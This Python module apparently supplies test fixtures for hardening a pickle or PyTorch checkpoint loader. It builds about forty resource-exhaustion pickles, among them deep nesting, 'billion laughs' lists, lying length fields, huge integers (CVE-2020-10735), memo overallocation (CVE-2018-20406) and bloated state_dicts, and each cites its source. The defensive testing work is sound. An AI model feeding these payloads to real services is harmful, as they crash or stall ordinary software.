"""Pickles that cost much to read: each function gives one, with where the attack is from.

Where none is named, it is one of Marco Slaviero's, "Sour Pickles" (Black Hat USA 2011), or of the documentation of
`pickletools`: an opcode that takes whatever the stack, the memo or a length says.
"""

import struct

from hostile.opcodes import (
    DICT,
    MARK,
    MODEL,
    NONE,
    PROTO_4,
    get,
    integer,
    listed,
    mapping,
    module,
    name,
    program,
    put,
    several,
    tensor,
    text,
)

MILLION = 10**6


def memo_index():
    """CVE-2018-20406: `_pickle` allocates a table up to the index of a put, twice as large."""
    return program(MODEL + put(2**31 - 1))


def negative_memo_index():
    """The text form of PUT takes any decimal."""
    return program(MODEL + b"p-1\n")


def marks():
    """Nothing bounds MARK."""
    return program(MARK * MILLION)


def nested_tuples():
    """What nests a million deep overflows the stack of who walks it, if only to let go of it."""
    return program(NONE + b"\x85" * MILLION)


def nested_lists():
    """The same, by APPEND."""
    return program(b"]" * MILLION + b"a" * (MILLION - 1))


def nested_calls():
    """The same, by REDUCE of REDUCE."""
    return program(name("a", "b") + (b")R" * MILLION))


def nested_arguments():
    """The same, by REDUCE within REDUCE's arguments."""
    return program((name("a", "b")) * 300_000 + b")" + b"R\x85" * 299_999 + b"R")


def nested_states():
    """The same, by BUILD."""
    return program((name("a", "b") + b")\x81") * 300_000 + b"b" * 299_999)


def laughing_lists():
    """ "Billion laughs", CVE-2003-1564, in pickle: each list has the one before twice."""
    return program(laughing(b"](", b"e"))


def _twice(start, end, index):
    return put(index) + b"0" + start + get(index) * 2 + end


def laughing(start, end):
    """Push what holds two of what holds two of …, 60 levels deep."""
    return several() + b"".join(_twice(start, end, index) for index in range(60))


def laughing_keys():
    """CVE-2012-1150's kin: a key's hash walks all of the key."""
    return program(DICT + laughing(MARK, b"t") + NONE + b"s")


def laughing_class():
    """The same, as what would be called: asking for its name writes it out."""
    return program(laughing(b"](", b"e") + b")R")


def laughing_class_of_a_size():
    size = laughing(b"](", b"e") + b")R"
    return program(module(parameters=[("weight", tensor(size))]))


def laughing_class_of_a_tensor():
    made = name("torch._tensor", "_rebuild_from_type_v2") + several(
        name("torch._utils", "_rebuild_meta_tensor_no_storage"),
        laughing(b"](", b"e"),
        several(name("torch", "float32"), several(integer(2)), several(integer(1)), b"\x88"),
        DICT,
    )
    return program(module(parameters=[("weight", made + b"R")]))


def deep_class_of_a_tensor():
    """A text is made of what nests deeper than the stack."""
    made = name("torch._tensor", "_rebuild_from_type_v2") + several(
        name("torch._utils", "_rebuild_meta_tensor_no_storage"),
        NONE + b"\x85" * 500_000,
        several(name("torch", "float32"), several(integer(2)), several(integer(1)), b"\x88"),
        DICT,
    )
    return program(module(parameters=[("weight", made + b"R")]))


def huge_long():
    """CVE-2020-10735: text to integer takes quadratic time."""
    return program(b"L" + b"9" * MILLION + b"L\n")


def huge_binary_long_as_key():
    """The same the other way: an integer of 40 million bits in a message."""
    return program(DICT + integer(1 << 40_000_000) + NONE + b"s")


def lying_long4():
    """A length past the end of the file."""
    return program(b"\x8b" + struct.pack("<i", 2**31 - 1))


def lying_text():
    return program(b"\x8d" + struct.pack("<Q", 2**63 - 1))


def lying_bytes():
    return program(b"\x8e" + struct.pack("<Q", 2**40), PROTO_4)


def lying_bytearray():
    return program(b"\x96" + struct.pack("<Q", 2**40), b"\x80\x05")


def lying_frame():
    """PEP 3154: FRAME's length is a claim."""
    return program(b"\x95" + struct.pack("<Q", 2**62) + MODEL, PROTO_4)


def widening_text():
    """PEP 393: one character beyond the others makes all of a text take four bytes each."""
    return program(text("a" * 60 * MILLION + "\U0001f600"))


def odd_items():
    """SETITEMS with a key and no value."""
    return program(DICT + MARK + NONE * 3 + b"u")


def build_copies():
    """One large state, put into object after object: each BUILD copies it."""
    state = mapping([(f"k{i}", NONE) for i in range(10_000)]) + put(0) + b"0"
    return program(state + (name("a", "b") + b")\x81" + get(0) + b"b0") * 50_000 + MODEL)


def many_sets():
    """Each of four million opcodes of one byte makes the largest object that one byte can."""
    return program(b"\x8f" * 3_900_000)


def many_dicts():
    return program((DICT + NONE * 2 + b"s") * 950_000)


def many_memos():
    return program(b"K\x01" + b"]\x94" * 1_900_000, PROTO_4)


def many_classes():
    """A million names to import."""
    return program(b"".join(b"ca\nx%d\n0" % i for i in range(MILLION)) + MODEL)


def many_keys():
    """A state_dict of a million names."""
    made = tensor() + put(0) + b"0"
    return program(made + mapping([(f"k{i}", get(0)) for i in range(MILLION)]))


def many_states():
    """One tensor with 20,000 states, under 190,000 names: each look at it copies the list of them."""
    made = tensor() + (mapping([("a", NONE)]) + put(1) + b"b") + (get(1) + b"b") * 20_000 + put(0) + b"0"
    return program(made + mapping([(f"k{i}", get(0)) for i in range(190_000)]))


def shared_metadata():
    """One list of a million modules, set as a state_dict's metadata again and again."""
    names = mapping([(f"m{i}", NONE) for i in range(300_000)]) + put(0) + b"0"
    ordered = name("collections", "OrderedDict") + b")R"
    state = mapping([("_metadata", get(0))]) + put(1) + b"0"
    weight = text("weight") + tensor() + b"s"
    return program(names + state + ordered + weight + (get(1) + b"b") * 1_000)


def deep_names():
    """Names of a state_dict that each stand 199 modules deep."""
    above = "a." * 199
    made = tensor() + put(0) + b"0"
    return program(made + mapping([(f"{above}{i}", get(0)) for i in range(140_000)]))


def long_key_over_many():
    """A key of 20 MB above 10,000 others: each whole path repeats it."""
    inside = mapping([(f"k{i}", NONE) for i in range(10_000)])
    return program(mapping([("a" * 20 * MILLION, inside)]))


def long_names_at_the_top():
    return program(mapping([("a" * 20 * MILLION, integer(1)), ("b" * 20 * MILLION, integer(1))]))


def long_class():
    """A class's name of 30 MB."""
    return program(module(of=("m", "C" * 30 * MILLION)))


def long_import():
    return program(name("m", "f" * 30 * MILLION) + b"0" + MODEL)


def long_name_in_an_error():
    return program(name("m", "f" * 30 * MILLION) + NONE + b"a")


def optimizers_share_a_list():
    """A list of 100,000 optimizers that is one optimizer of 10,000 parameters."""
    group = mapping([("params", listed(integer(i) for i in range(10_000))), ("lr", integer(1))])
    one = mapping([("state", DICT), ("param_groups", listed([group]))]) + put(0) + b"0"
    return program(one + mapping([("model", MODEL), ("optimizers", listed([get(0)] * 100_000))]))


def groups_share_a_list():
    """An optimizer whose million groups are one list of 100,000 parameters."""
    group = mapping([("params", listed(integer(i) for i in range(100_000))), ("lr", integer(1))]) + put(0) + b"0"
    groups = mapping([("state", DICT), ("param_groups", listed([get(0)] * MILLION))])
    return program(group + mapping([("model", MODEL), ("optimizer", groups)]))


def groups_without_parameters():
    group = mapping([("params", b"]")]) + put(0) + b"0"
    groups = mapping([("state", DICT), ("param_groups", listed([get(0)] * MILLION))])
    return program(group + mapping([("model", MODEL), ("optimizer", groups)]))


PICKLES = (
    memo_index, negative_memo_index, marks, nested_tuples, nested_lists, nested_calls, nested_arguments, nested_states,
    laughing_lists, laughing_keys, laughing_class, laughing_class_of_a_size, laughing_class_of_a_tensor,
    deep_class_of_a_tensor, huge_long, huge_binary_long_as_key, lying_long4, lying_text, lying_bytes, lying_bytearray,
    lying_frame, widening_text, odd_items, build_copies, many_sets, many_dicts, many_memos, many_classes, many_keys,
    many_states, shared_metadata, deep_names, long_key_over_many, long_names_at_the_top, long_class, long_import,
    long_name_in_an_error, optimizers_share_a_list, groups_share_a_list, groups_without_parameters,
)  # fmt: skip
